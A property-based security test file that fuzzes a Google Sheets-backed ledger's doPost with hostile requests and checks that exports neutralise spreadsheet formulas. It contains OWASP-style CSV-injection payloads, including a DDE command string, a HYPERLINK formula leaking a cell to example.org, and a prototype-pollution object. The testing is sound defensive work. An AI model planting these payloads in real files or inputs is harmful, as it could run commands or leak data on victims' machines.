import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { commitmentVersionHash } from '../../shared/domain/commitment-version-hash.ts';
import type { ProgressUpdate } from '../../shared/domain/progress-update.ts';
import { annotationsCsv } from '../../shared/ledger/exports/annotations-csv.ts';
import { decodeCsv } from '../../shared/ledger/exports/decode-csv.ts';
import type { NotesAnnotation } from '../../shared/ledger/exports/build-meeting-notes.ts';
import { TRACKER_COLUMNS } from '../../shared/ledger/exports/tracker-rows.ts';
import { unescapeCell } from '../../shared/ledger/escape-cell.ts';
import { ledgerTabTitle } from '../../shared/ledger/layout/index.ts';
import { verifyChain } from '../../shared/ledger/verify-chain.ts';
import { EventErrorCode, RequestErrorCode } from '../../shared/protocol/ledger-api.ts';
import { MAX_BODY_BYTES, MAX_EVENTS_PER_BATCH, MAX_NESTING_DEPTH, MAX_TEXT_LENGTH } from '../../shared/protocol/limits.ts';
import { NAP6, NAP6_PLAN, nap6Commitments } from '../fixtures/tracker/nap6-records.ts';
import { openAllInLibreOffice } from '../helpers/libreoffice.ts';
import { readRecombinantUpload } from '../helpers/read-recombinant-upload.ts';
import { hostileString } from '../shared/ledger/events/arbitraries.ts';
import * as example from '../shared/domain/examples.ts';
import type { CallRecord } from '../support/call-log.ts';
import { postEvent } from '../support/ledger-bundle.ts';
import { addMember, annotationEvent, ledgerFixture, type LedgerFixture, nodeSha256 } from '../support/ledger-fixture.ts';

// Issue 14 item 6: a forum's ledger, set up and filled by the real bundle in node:vm on the Google
// doubles, then 10,000+ generated hostile requests to its doPost, from strangers and from members who
// hold a valid token. Every answer must carry a code the protocol documents (shared/protocol/ledger-api.ts,
// docs/ledger-events.md), no exception may escape, and the spreadsheet (log, views, members, chain head)
// must be byte-for-byte what it was. Then every view and every export of the texts built to become
// formulas is opened as a person would open it, in LibreOffice: none may become a formula.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 180_000 });

const RUNS = Number(process.env.HOSTILE_RUNS ?? 10_000);

/**
 * Texts built to become formulas, after OWASP's CSV-injection page (leading `= + - @`, tab, CR; the
 * field separators `,` and `;` that start a new cell) and ASVS 1.2.10 (NUL), plus what a fr-CA
 * spreadsheet reads (`;` as the argument and list separator, SOMME), leading spaces and invisible
 * characters some readers skip, and the full-width forms an IME types.
 */
const FORMULAS = [
  '=2*21',
  '+2*21',
  '-2*21',
  '@SUM(1,2)',
  '\t=2*21',
  '\r=2*21',
  '\n=2*21',
  '\0=2*21',
  '  =2*21',
  '\u00a0=2*21',
  '\u3000=2*21',
  '\ufeff=2*21',
  '=SOMME(1;2)',
  '=HYPERLINK("http://example.org/?leak="&A1;"détails")',
  "=cmd|' /C calc'!A0",
  'Progrès;=2*21;+2*21',
  'Progress,=2*21,@SUM(1,2)',
  'Progrès\n=2*21',
  '"=2*21"',
  "'=2*21",
  '\uff1d2*21',
  '\uff0b2*21',
  '\uff0d2*21',
  '\uff20SUM(1,2)',
];

type Answer = {
  ok: boolean;
  error?: { code: string; message: string };
  results?: Array<{ id: string; status: string; error?: { code: string; message: string } }>;
  head?: { seq: number; hash: string };
  events?: unknown[];
};

const event = (type: string, payload: unknown, extra: Record<string, unknown> = {}) => ({
  v: 1,
  id: randomUUID(),
  type,
  at: '2026-07-02T14:00:00.000Z',
  source: 'sheet',
  payload,
  ...extra,
});

/** The forum: six members, and records of each kind whose texts are the formulas above. */
async function forum() {
  const f = await ledgerFixture();
  const alice = addMember(f.world, { name: 'Alice Tremblay', org: 'Open North', side: 'csn', roles: ['attendee'] });
  const bob = addMember(f.world, { name: 'Bob Singh', org: 'CCLA', side: 'csn', roles: ['attendee'] });
  const drafter = addMember(f.world, { name: 'Chris Côté', org: 'TBS', side: 'government', roles: ['drafter'] });
  const coordinator = addMember(f.world, { name: 'Sam Lee', org: 'TBS', side: 'government', roles: ['coordinator'] });
  const signatory = addMember(f.world, { name: 'Jo Cohen', org: 'Open North', side: 'csn', roles: ['csn_signatory'] });
  const revoked = addMember(f.world, { name: 'Rita Roy', org: 'Open North', side: 'csn', roles: ['attendee', 'coordinator'], revoked: true });
  const append = (token: string, events: unknown[]) => {
    const answer = f.post({ v: 1, op: 'append', token, events }) as Answer;
    expect(answer.results?.map((r) => r.error?.message ?? r.status)).toEqual(events.map(() => 'accepted'));
    return answer;
  };
  const commitments = nap6Commitments(['C01']).map((c, i) => (i === 0 ? { ...c, title: { en: FORMULAS[0]!, fr: FORMULAS[12]! } } : c));
  append(coordinator.token, [event('plan.recorded', { plan: NAP6_PLAN })]);
  append(
    drafter.token,
    commitments.map((commitment) => event('commitment.upserted', { commitment, versionHash: commitmentVersionHash(commitment, nodeSha256) }, { source: 'docs' })),
  );
  // Few records, each holding several of the texts, so that a request that must fold the log stays cheap.
  const at = (i: number) => FORMULAS[i % FORMULAS.length]!;
  // The tracker refuses a text that starts with `=` once trimmed (its own rule, tested elsewhere), and
  // the export with it: the updates hold every other text, so that the export is made.
  const exportable = FORMULAS.filter((text) => !/^[\t\n\v\f\r ]*=/.test(text));
  const inUpdate = (i: number) => exportable[i % exportable.length]!;
  const updates: ProgressUpdate[] = NAP6.reportingPeriods.slice(0, 3).map((reportingPeriod, i) => ({
    reportingPeriod,
    commitmentCode: 'C01',
    milestoneCode: 'C01.1',
    indicatorCode: 'C01.1.1',
    status: 'SP',
    progress: { en: inUpdate(i * 6), fr: inUpdate(i * 6 + 1) },
    evidence: { en: inUpdate(i * 6 + 2), fr: inUpdate(i * 6 + 3) },
    challenges: { en: inUpdate(i * 6 + 4), fr: inUpdate(i * 6 + 5) },
  }));
  append(coordinator.token, updates.map((update) => event('update.reported', { update })));
  const stakeholder = { ...example.stakeholder, name: at(3), policyAreas: FORMULAS.slice(0, 3) };
  append(coordinator.token, [event('stakeholder.upserted', { stakeholder })]);
  const aliceNotes = Array.from({ length: FORMULAS.length / 3 }, (_, i) =>
    annotationEvent(at(i * 3), {
      payload: {
        meetingId: 'meeting-1',
        kind: i % 2 === 0 ? 'action' : 'note',
        text: at(i * 3),
        captionText: at(i * 3 + 1),
        speaker: { side: 'government', name: at(i * 3 + 2).slice(0, 200) },
        ...(i % 2 === 0 ? { owner: at(i * 3 + 1).slice(0, 200) } : {}),
      },
    }),
  );
  append(alice.token, aliceNotes);
  const head = (f.post({ v: 1, op: 'pull', token: bob.token, since: 0, limit: 1 }) as Answer).head!;
  return { ...f, alice, bob, drafter, coordinator, signatory, revoked, aliceNotes, commitments, updates, head };
}
type Forum = Awaited<ReturnType<typeof forum>>;

// ---------------------------------------------------------------------------------------------------
// Generators. Every request below must be refused, whole or event by event (or be a pure read): the
// test asserts that nothing at all is stored, so a generator that made a valid event would fail it.

/** Values of every JSON type but the one a field wants (the caller filters). */
const anyJson = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  hostileString,
  fc.array(fc.jsonValue(), { maxLength: 3 }),
  fc.dictionary(hostileString, fc.jsonValue(), { maxKeys: 3 }),
);
const notString = anyJson.filter((v) => typeof v !== 'string');
const formula = fc.oneof(fc.constantFrom(...FORMULAS), fc.tuple(fc.constantFrom(...FORMULAS), hostileString).map(([a, b]) => a + b));
const hex64 = fc.string({ unit: fc.constantFrom(...'0123456789abcdef'), minLength: 64, maxLength: 64 });
const hostileToken = fc.oneof(hostileString, formula, hex64, fc.uuid());

/** A well-formed annotation by `token`'s holder, broken in one way that makes it invalid. */
function brokenAnnotation() {
  const good = () => annotationEvent('Milestone C01.1 keeps its March 2026 deadline.');
  const mutations: fc.Arbitrary<Record<string, unknown>>[] = [
    // Wrong types and values in the envelope.
    fc.constantFrom(0, 2, '1', null, true).map((v) => ({ ...good(), v })),
    notString.map((id) => ({ ...good(), id })),
    hostileString.filter((id) => !/^[0-9a-f-]{36}$/i.test(id)).map((id) => ({ ...good(), id })),
    fc.oneof(notString, hostileString, formula).filter((t) => typeof t !== 'string' || !t.includes('.')).map((type) => ({ ...good(), type })),
    fc.constantFrom('annotation.create', 'Annotation.Created', 'annotation.created ', 'member.issued', '__proto__').map((type) => ({ ...good(), type })),
    fc.oneof(notString, formula, fc.constantFrom('2026-13-45T00:00:00Z', '27/11/2026', 'yesterday', '2026-11-27', '')).map((at) => ({ ...good(), at })),
    fc.oneof(notString, formula, fc.constantFrom('Extension', 'api', '')).map((source) => ({ ...good(), source })),
    fc.oneof(fc.constant(null), fc.integer(), hostileString, fc.array(fc.jsonValue(), { maxLength: 3 })).map((payload) => ({ ...good(), payload })),
    fc.oneof(notString, fc.constant('')).map((entityId) => ({ ...good(), entityId })),
    // Wrong types inside the payload.
    fc.oneof(notString, fc.constant('')).map((meetingId) => ({ ...good(), payload: { meetingId, kind: 'note', text: 'x' } })),
    fc.oneof(notString, formula, fc.constantFrom('Note', 'shout', '')).map((kind) => ({ ...good(), payload: { meetingId: 'meeting-1', kind, text: 'x' } })),
    notString.map((text) => ({ ...good(), payload: { meetingId: 'meeting-1', kind: 'note', text } })),
    fc.oneof(fc.integer({ max: -1 }), fc.double({ noInteger: true, min: 0.1, max: 1e6 }), hostileString).map((offsetMs) => ({
      ...good(),
      payload: { meetingId: 'meeting-1', kind: 'note', text: 'x', offsetMs },
    })),
    fc.oneof(formula, hostileString.filter((s) => !/^\d{4}-\d{2}-\d{2}$/.test(s))).map((dueDate) => ({
      ...good(),
      payload: { meetingId: 'meeting-1', kind: 'action', text: 'x', dueDate },
    })),
    fc.oneof(notString, fc.constantFrom('fr-CA', 'EN', 'iu')).map((language) => ({ ...good(), payload: { meetingId: 'meeting-1', kind: 'note', text: 'x', language } })),
    // Foreign fields: the schema names every field an event may hold.
    fc
      .tuple(fc.constantFrom('disposition', 'seq', 'hash', 'author', 'isAdmin', 'toString', 'constructor', 'notesUrl', 'x'), fc.jsonValue())
      .map(([key, value]) => ({ ...good(), payload: { meetingId: 'meeting-1', kind: 'note', text: 'x', [key]: value } })),
    fc.jsonValue().map((value) => ({ ...good(), payload: { meetingId: 'meeting-1', kind: 'note', text: 'x', speaker: { side: 'csn', name: 'x', role: value } } })),
    fc.constant(JSON.parse('{"v":1,"type":"annotation.created","at":"2026-11-27T14:00:00.000Z","source":"extension","payload":{"meetingId":"m","kind":"note","text":"x","__proto__":{"isAdmin":true}}}')).map(
      (e: Record<string, unknown>) => ({ ...e, id: randomUUID() }),
    ),
    // Texts over the limit (refused, never cut), formulas or not.
    fc.tuple(formula, fc.integer({ min: 1, max: 50 })).map(([start, extra]) => ({
      ...good(),
      payload: { meetingId: 'meeting-1', kind: 'note', text: start + 'x'.repeat(MAX_TEXT_LENGTH + extra) },
    })),
    formula.map((start) => ({ ...good(), payload: { meetingId: 'meeting-1', kind: 'note', text: 'x', speaker: { name: start + 'y'.repeat(200) } } })),
  ];
  return fc.oneof(...mutations);
}

/** What a valid member may not write: other members' records, other roles' events, back-dated or not. */
function trespass(f: Forum) {
  const theirs = fc.constantFrom(...f.aliceNotes);
  const backDated = fc.oneof(fc.constant('1970-01-01T00:00:00.000Z'), fc.date({ min: new Date('1970-01-01'), max: new Date('2026-11-01'), noInvalidDate: true }).map((d) => d.toISOString()));
  const alicesTarget = fc.tuple(theirs, backDated, formula);
  // Each is one member's trespass; a batch repeats one of them (one token per request).
  return [
    // Bob re-creating, editing or deleting Alice's annotation, back-dated before hers.
    alicesTarget.map(([note, at, text]) => ({ token: f.bob.token, event: annotationEvent(text.slice(0, 500), { entityId: note.entityId, at }) })),
    alicesTarget.map(([note, at, text]) => ({
      token: f.bob.token,
      event: { ...annotationEvent(text.slice(0, 500), { entityId: note.entityId, at }), type: 'annotation.updated' },
    })),
    alicesTarget.map(([note, at]) => ({ token: f.bob.token, event: event('annotation.deleted', { meetingId: 'meeting-1' }, { entityId: note.entityId, at }) })),
    // An attendee writing what drafters, coordinators and signatories write.
    formula.map((title) => {
      const commitment = { ...f.commitments[0]!, title: { en: title.slice(0, 200), fr: title.slice(0, 200) } };
      return { token: f.alice.token, event: event('commitment.upserted', { commitment, versionHash: commitmentVersionHash(commitment, nodeSha256) }, { source: 'docs' }) };
    }),
    formula.map((name) => ({ token: f.alice.token, event: event('stakeholder.upserted', { stakeholder: { ...example.stakeholder, name: name.slice(0, 200) } }) })),
    fc.constant(null).map(() => ({ token: f.alice.token, event: event('plan.recorded', { plan: { ...NAP6_PLAN, periodEnd: '2030-12-31' } }) })),
    // The drafter of the government side re-titling with a stale hash, and a sign-off on no stored version.
    formula.map((title) => {
      const commitment = { ...f.commitments[0]!, title: { en: title.slice(0, 200), fr: 'Titre' } };
      return { token: f.drafter.token, event: event('commitment.upserted', { commitment, versionHash: 'ab'.repeat(32) }, { source: 'docs' }) };
    }),
    hex64.map((hash) => ({
      token: f.signatory.token,
      event: event('signoff.recorded', { ...example.signOff, id: randomUUID(), subject: { kind: 'commitment', id: f.commitments[0]!.id }, versionHash: hash, recordedBy: undefined }),
    })),
    // A signatory signing for the other side's track.
    fc.constant(null).map(() => ({
      token: f.signatory.token,
      event: event('signoff.recorded', { ...example.signOff, id: randomUUID(), track: 'government', state: 'signed', recordedBy: undefined }),
    })),
    // The coordinator publishing notes under a head the ledger never had is still refused on shape.
    formula.map((url) => ({ token: f.coordinator.token, event: event('meeting.notes_published', { meetingId: 'meeting-1', language: 'en', url, headHash: 'nothex' }) })),
    // Re-sending an event already stored, even with its id in upper case: a duplicate, stored once.
    theirs.map((note) => ({ token: f.alice.token, event: { ...note, id: String(note.id).toUpperCase(), payload: { meetingId: 'meeting-1', kind: 'note', text: '=changed' } } })),
  ];
}

/** Arrays nested one level deeper than the protocol reads. */
const TOO_DEEP = `${'['.repeat(MAX_NESTING_DEPTH + 1)}${']'.repeat(MAX_NESTING_DEPTH + 1)}`;

/** One request body with its kind, for the counts. */
function requests(f: Forum): fc.Arbitrary<{ kind: string; body: string }> {
  const members = fc.constantFrom(f.alice.token, f.bob.token, f.drafter.token, f.coordinator.token, f.signatory.token);
  const strangerToken = fc.oneof(
    hostileToken,
    fc.constant(f.revoked.token),
    members.map((t) => t.toUpperCase()),
    members.map((t) => ` ${t}`),
    members.map((t) => t.slice(0, -1)),
    members.map((t) => `=${t}`),
  );
  const json = (kind: string) => (value: unknown) => ({ kind, body: JSON.stringify(value) });
  const batch = <T>(arb: fc.Arbitrary<T>) => fc.array(arb, { minLength: 1, maxLength: 6 });
  return fc.oneof(
    // Not a request at all.
    { weight: 1, arbitrary: fc.oneof(hostileString, formula).map((body) => ({ kind: 'not json', body })) },
    { weight: 1, arbitrary: fc.jsonValue().filter((v) => v === null || typeof v !== 'object' || Array.isArray(v)).map(json('json, not an object')) },
    // Envelopes broken on purpose.
    {
      weight: 2,
      arbitrary: fc
        .record({ v: fc.oneof(fc.constant(1), anyJson), op: fc.oneof(fc.constantFrom('append', 'pull', 'whoami', 'APPEND', 'delete', '__proto__'), anyJson), token: fc.oneof(members, anyJson) }, { requiredKeys: [] })
        .filter((r) => !(r.v === 1 && ['append', 'pull', 'whoami'].includes(r.op as string) && typeof r.token === 'string'))
        .map(json('broken envelope')),
    },
    { weight: 1, arbitrary: fc.tuple(members, fc.oneof(anyJson, fc.constant([]))).filter(([, e]) => !Array.isArray(e) || e.length === 0).map(([token, events]) => json('events not a list')({ v: 1, op: 'append', token, events })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(members, fc.oneof(fc.integer({ max: -1 }), fc.double({ noInteger: true }), hostileString, fc.constant(null)), fc.oneof(fc.constant(undefined), fc.integer({ max: 0 }), fc.integer({ min: 100_000 }), hostileString))
        .map(([token, since, limit]) => json('bad pull')({ v: 1, op: 'pull', token, since, limit })),
    },
    // Strangers: revoked, mangled or made-up tokens, with good and bad events alike.
    { weight: 3, arbitrary: fc.tuple(strangerToken, batch(fc.oneof(fc.constant(null).map(() => annotationEvent('A stranger’s note.')), brokenAnnotation()))).map(([token, events]) => json('stranger append')({ v: 1, op: 'append', token, events })) },
    { weight: 1, arbitrary: fc.tuple(strangerToken, fc.constantFrom('pull', 'whoami')).map(([token, op]) => json('stranger read')({ v: 1, op, token, since: 0 })) },
    // Members with a valid token, every event of their batch wrong in its own way.
    { weight: 6, arbitrary: fc.tuple(members, batch(brokenAnnotation())).map(([token, events]) => json('member, malformed events')({ v: 1, op: 'append', token, events })) },
    // The dearest to answer (the whole log is read and folded): fewer of them.
    {
      weight: 2,
      arbitrary: fc.oneof(...trespass(f).map(batch)).map((list) => json('member, trespass')({ v: 1, op: 'append', token: list[0]!.token, events: list.map((t) => t.event) })),
    },
    // Members with a valid token and a body the limits refuse.
    { weight: 1, arbitrary: members.map((token) => ({ kind: 'too deep', body: `{"v":1,"op":"append","token":"${token}","events":[${TOO_DEEP}]}` })) },
    {
      weight: 1,
      arbitrary: fc.tuple(members, fc.integer({ min: 1, max: 20 })).map(([token, extra]) => json('too many events')({ v: 1, op: 'append', token, events: Array.from({ length: MAX_EVENTS_PER_BATCH + extra }, () => 0) })),
    },
  );
}

/** Once per run (building it costs more than answering it): a body just over the byte limit. */
function tooLargeBody(token: string): string {
  const head = `{"v":1,"op":"append","token":"${token}","events":[`;
  const one = JSON.stringify(annotationEvent('é'.repeat(MAX_TEXT_LENGTH)));
  const count = Math.ceil(MAX_BODY_BYTES / Buffer.byteLength(one)) + 1;
  return `${head}${Array.from({ length: count }, () => one).join(',')}]}`;
}

/** What the tracker strips from each end of a text (ckanext-canada), which JavaScript's trim exceeds. */
const trackerTrim = (text: string) => text.replace(/^[\t\n\v\f\r ]+|[\t\n\v\f\r ]+$/g, '');

/** The whole spreadsheet as text: every tab's title, rows, validations and protections. */
const sheetText = (f: LedgerFixture) => JSON.stringify(f.world.store.state);

let f: Forum;
let work: string;
beforeAll(async () => {
  f = await forum();
  work = mkdtempSync(path.join(tmpdir(), 'cocreate-hostile-'));
});
afterAll(() => {
  if (work) rmSync(work, { recursive: true, force: true });
});

/** What a request that stores nothing may call: reads, the lock, digests and its answer (a cache write counts as a write). */
const READ_CALLS = new Set([
  'Sheets.Spreadsheets.Values.batchGet',
  'Sheets.Spreadsheets.Values.get',
  'Sheets.Spreadsheets.get',
  'PropertiesService.getProperty',
  'PropertiesService.getProperties',
  'PropertiesService.getKeys',
  'CacheService.get',
  'CacheService.getAll',
  // The token index (token-index.ts) is refilled from the Members tab once its 5-minute cache has
  // expired, whoever's request comes first, a stranger's included: a copy of the Members tab, not a
  // write to the ledger (the spreadsheet itself is compared below).
  'CacheService.put',
  'CacheService.putAll',
  'LockService.getScriptLock',
  'LockService.tryLock',
  'LockService.waitLock',
  'LockService.releaseLock',
  'Utilities.computeDigest',
  // Group commit (append-events.ts) paces its writes: a request that comes right after a store waits.
  'Utilities.sleep',
  'ContentService.createTextOutput',
]);
const FULL_COMPARE_EVERY = 250;

const REQUEST_CODES = new Set<string>(RequestErrorCode.options);
const EVENT_CODES = new Set<string>(EventErrorCode.options);

describe('10,000 hostile requests to the ledger bundle’s doPost', () => {
  it('each answered with a documented code, nothing stored, nothing thrown', () => {
    const before = sheetText(f);
    const counts = new Map<string, number>();
    const count = (key: string, n = 1) => counts.set(key, (counts.get(key) ?? 0) + n);
    let total = 0;
    const answer = (kind: string, body: string): Answer => {
      total += 1;
      count(`kind: ${kind}`);
      let out: { getContent(): string; getMimeType(): string };
      try {
        out = f.app.doPost(postEvent(body));
      } catch (error) {
        throw new Error(`doPost threw on a ${kind} body: ${String(error)}\n${body.slice(0, 500)}`);
      }
      expect(out.getMimeType()).toBe('JSON');
      return JSON.parse(out.getContent()) as Answer;
    };
    const check = (kind: string, a: Answer) => {
      if (a.ok === false) {
        expect(REQUEST_CODES.has(a.error!.code), a.error!.code).toBe(true);
        expect(a.error!.code).not.toBe('internal');
        expect(a.error!.message).toMatch(/^\S.*[.!?]$/);
        count(`request ${a.error!.code}`);
      } else if (a.results) {
        for (const result of a.results) {
          if (result.status === 'rejected') {
            expect(EVENT_CODES.has(result.error!.code), result.error!.code).toBe(true);
            expect(result.error!.message).toMatch(/^\S/);
            count(`event ${result.error!.code}`);
          } else {
            expect(result.status, `${kind}: ${JSON.stringify(result)}`).toBe('duplicate');
            count('event duplicate');
          }
        }
        expect(a.head).toEqual(f.head);
      } else {
        // A read (pull, whoami) answered to a holder of a valid token: it writes nothing either.
        count('read ok');
      }
      // Only the execution log (the owner's) may say more; a refusal is not a failure.
      expect(f.world.executionLog).toEqual([]);
      expect(f.world.arbiter.heldBy).toBeNull();
    };

    // After each request the call log must hold reads only (cheap, so it runs every time); the whole
    // spreadsheet is compared as text every FULL_COMPARE_EVERY requests and at the end.
    const readOnly = (call: CallRecord) => READ_CALLS.has(`${call.service}.${call.method}`);
    const wroteNothing = (kind: string) => {
      const writes = f.world.log.calls.filter((call) => !readOnly(call));
      expect(writes, kind).toEqual([]);
      f.world.log.reset();
    };
    f.world.log.reset();
    const started = Date.now();
    const big = tooLargeBody(f.alice.token);
    check('too large', answer('too large', big));
    wroteNothing('too large');

    fc.assert(
      fc.property(requests(f), ({ kind, body }) => {
        check(kind, answer(kind, body));
        wroteNothing(kind);
        if (total % FULL_COMPARE_EVERY === 0) expect(sheetText(f)).toBe(before);
      }),
      { numRuns: RUNS, seed: Number(process.env.HOSTILE_SEED ?? 146) },
    );
    const seconds = (Date.now() - started) / 1000;

    // The log still verifies as a chain whose head is the one before the attack, and nothing moved.
    expect(sheetText(f)).toBe(before);
    const logRows = f.world.globals.Sheets.Spreadsheets.Values.get(f.world.store.state.spreadsheetId, `'${ledgerTabTitle('log')}'`).values ?? [];
    const verdict = verifyChain(logRows, nodeSha256, { knownHeads: [f.head.hash] });
    expect(verdict).toMatchObject({ ok: true, head: f.head });
    const pulled = f.post({ v: 1, op: 'pull', token: f.bob.token, since: 0 }) as Answer;
    expect(pulled.head).toEqual(f.head);

    const report = [...counts.entries()].sort(([a], [b]) => (a < b ? -1 : 1)).map(([k, n]) => `  ${k}: ${n}`);
    console.info(`hostile requests: ${total} in ${seconds.toFixed(1)} s\n${report.join('\n')}`);
    expect(total).toBeGreaterThanOrEqual(Math.min(RUNS, 10_000));
    // ~20 s of CPU; the margin is for a machine at load 20, where it takes five times as long.
  }, 300_000);
});

describe('texts built to become formulas, in every view and export', () => {
  it('every view tab holds them as text: no formula, every risky first character guarded, each text whole', () => {
    const cells = f.world.store.state.sheets.flatMap((sheet) =>
      sheet.rows.flatMap((row) => (row ?? []).flatMap((cell) => (cell ? [{ tab: sheet.title, cell }] : []))),
    );
    expect(cells.filter(({ cell }) => cell.formula !== undefined)).toEqual([]);
    const texts = cells.flatMap(({ tab, cell }) => (typeof cell.value === 'string' ? [{ tab, text: cell.value }] : []));
    // escapeCell's contract (docs/ledger-events.md, "Sheet encoding"): OWASP's first characters get one `'`.
    expect(texts.filter(({ text }) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
    const shown = new Set(texts.map(({ text }) => unescapeCell(text)));
    const views = new Set(texts.filter(({ tab }) => tab !== ledgerTabTitle('log')).map(({ text }) => unescapeCell(text)));
    for (const update of f.updates) {
      for (const text of [update.progress, update.evidence!, update.challenges!].flatMap((b) => [b.en, b.fr])) expect(views.has(text), JSON.stringify(text)).toBe(true);
    }
    for (const note of f.aliceNotes) expect(views.has((note.payload as { text: string }).text)).toBe(true);
    expect(shown.has(FORMULAS[0]!)).toBe(true);
  });

  it('the tracker workbook and CSV and the annotations CSV, opened in LibreOffice as fr-CA Excel splits them (at `;`): no formula, every text kept', () => {
    const files: Record<string, string> = {};
    for (const locale of ['en', 'fr_CA']) {
      f.world.session.locale = locale;
      f.world.ui.events.length = 0;
      f.app.exportTrackerCsv();
      const html = f.world.ui.events.filter((e) => e.kind === 'dialog').at(-1)!.html;
      expect(html).toContain("<script>");
      const downloads = JSON.parse(/<script>(\[[\s\S]*?\])\.forEach/.exec(html)![1]!) as { file: string; base64: string }[];
      for (const download of downloads) {
        const file = path.join(work, `${locale}-${download.file}`);
        writeFileSync(file, Buffer.from(download.base64, 'base64'));
        files[`${locale} ${download.file.endsWith('.csv') ? 'tracker csv' : 'tracker xlsx'}`] = file;
      }
    }
    f.world.session.locale = 'en';
    // The annotations CSV as the extension's notes page makes it, from what the ledger gives a member.
    const pulled = f.post({ v: 1, op: 'pull', token: f.bob.token, since: 0 }) as { events: Array<{ type: string; entityId: string; at: string; payload: NotesAnnotation }> };
    const annotations = pulled.events.filter((e) => e.type === 'annotation.created').map((e) => ({ ...e.payload, id: e.entityId, at: e.at }));
    expect(annotations).toHaveLength(f.aliceNotes.length);
    for (const language of ['en', 'fr'] as const) {
      const file = path.join(work, `${language}-annotations.csv`);
      writeFileSync(file, annotationsCsv(annotations, { language }), 'utf8');
      files[`${language} annotations csv`] = file;
    }
    const names = Object.keys(files);
    const csvs = names.filter((n) => n.endsWith('csv'));
    const xlsx = names.filter((n) => n.endsWith('xlsx'));
    expect(csvs).toHaveLength(4);
    expect(xlsx.length).toBeGreaterThanOrEqual(2);
    // Each CSV gives back every text exactly (the guards come off again), so "no formula" is not "no data".
    const read = (name: string) => decodeCsv(readFileSync(files[name]!, 'utf8')).flat();
    for (const name of csvs.filter((n) => n.includes('annotations'))) {
      for (const note of f.aliceNotes) expect(read(name)).toContain((note.payload as { text: string }).text);
    }
    for (const name of csvs.filter((n) => n.includes('tracker'))) {
      for (const u of f.updates) expect(read(name)).toEqual(expect.arrayContaining([u.progress.en, u.progress.fr]));
    }
    // LibreOffice with formulas on, as a person opens them: the CSVs read at `;` as Excel in fr-CA reads
    // them (the comma reading of the same encoder: tests/shared/ledger/exports/csv-libreoffice.test.ts).
    const opened = openAllInLibreOffice(csvs.map((n) => files[n]!), { separator: ';' });
    opened.forEach((file, i) => {
      expect(file.formulas, csvs[i]).toEqual([]);
    });
    // A cell that starts after a `;` inside a text starts with the guard.
    expect(opened.flatMap((o) => o.cells.flat())).toContain("'=2*21");
    // The upload workbooks hold text cells only (no formula element), each text as the tracker stores it
    // (LibreOffice opens these in tests/e2e/tracker-files.e2e.test.ts).
    for (const name of xlsx) {
      const parts = unzipSync(readFileSync(files[name]!));
      const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
      expect(sheet).not.toMatch(/<f[\s>]/);
      const upload = readRecombinantUpload(readFileSync(files[name]!), 'nap6', TRACKER_COLUMNS);
      if (!upload.ok) throw new Error(upload.error);
      expect(upload.records.map((r) => r.progress_en)).toEqual(f.updates.map((u) => trackerTrim(u.progress.en)));
      expect(upload.records.map((r) => r.challenges_fr)).toEqual(f.updates.map((u) => trackerTrim(u.challenges!.fr)));
    }
  }, 240_000);
});
